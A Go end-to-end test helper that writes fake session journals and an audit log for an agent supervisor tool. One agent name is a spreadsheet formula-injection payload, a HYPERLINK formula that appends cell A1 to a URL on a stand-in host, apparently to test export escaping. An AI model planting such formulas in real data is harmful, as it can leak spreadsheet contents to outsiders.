package e2e

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// Formula is a name of an agent that a program for tables would take for one.
const Formula = `=HYPERLINK("http://x/?"&A1,"<b>click</b>")`

// Recorded puts into a place what supervisors recorded of two agents on three days, the last of them a day.
func (p *Place) Recorded(t *testing.T, last time.Time) {
	t.Helper()
	state := filepath.Join(p.Home, ".local", "state", "acphost")
	var audit strings.Builder
	for i, agent := range []string{"claude", Formula} {
		for ago := range 3 {
			at := last.AddDate(0, 0, -ago)
			stamp := func(after time.Duration) string { return at.Add(after).UTC().Format("2006-01-02T15:04:05.000000000Z") }
			session := fmt.Sprintf("old-%d-%d", i, ago)
			lines := fmt.Sprintf(`{"t":%q,"journal":{"version":1,"session":%q,"agent":%q,"cwd":"/w","acphost":"v1","instance":"x","pid":1,"content":true}}
{"t":%q,"n":1,"dir":"front-to-agent","method":"session/new","frame":{"jsonrpc":"2.0","id":1,"method":"session/new","params":{"cwd":"/w","mcpServers":[]}}}
{"t":%q,"n":2,"dir":"agent-to-front","answers":"session/new","frame":{"jsonrpc":"2.0","id":1,"result":{"sessionId":%q}}}
{"t":%q,"n":3,"dir":"front-to-agent","method":"session/prompt","frame":{"jsonrpc":"2.0","id":2,"method":"session/prompt","params":{"sessionId":%q,"prompt":[{"type":"text","text":"go"}]}}}
{"t":%q,"n":4,"dir":"agent-to-front","method":"session/update","frame":{"jsonrpc":"2.0","method":"session/update","params":{"sessionId":%q,"update":{"sessionUpdate":"usage_update","used":5,"size":9,"cost":{"amount":%d.25,"currency":"USD"}}}}}
{"t":%q,"n":5,"dir":"agent-to-front","answers":"session/prompt","frame":{"jsonrpc":"2.0","id":2,"result":{"stopReason":"end_turn","usage":{"totalTokens":%d,"inputTokens":40,"outputTokens":2}}}}
`,
				stamp(0), session, agent, stamp(0), stamp(0), session, stamp(0), session, stamp(time.Second), session, ago+1, stamp(time.Minute), 1000*(i+1)+ago)
			file := filepath.Join(state, "journal", at.UTC().Format(time.DateOnly), "s-"+session+"-0123456789ab.ndjson")
			if err := os.MkdirAll(filepath.Dir(file), 0o700); err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(file, []byte(lines), 0o600); err != nil {
				t.Fatal(err)
			}
		}
	}
	for i, verdict := range []string{"allow", "ask", "deny"} {
		fmt.Fprintf(&audit, `{"time":%q,"id":"%d","supervisor":1,"session_id":"old","agent":%q,"door":"call","verdict":%q,"latency_micros":2000,"answered_by":"policy","outcome":"allowed","asked_millis":%d}`+"\n",
			last.AddDate(0, 0, -i).UTC().Format(time.RFC3339Nano), i, Formula, verdict, 3000*(i%2))
	}
	if err := os.WriteFile(filepath.Join(state, "audit.jsonl"), []byte(audit.String()), 0o600); err != nil {
		t.Fatal(err)
	}
}
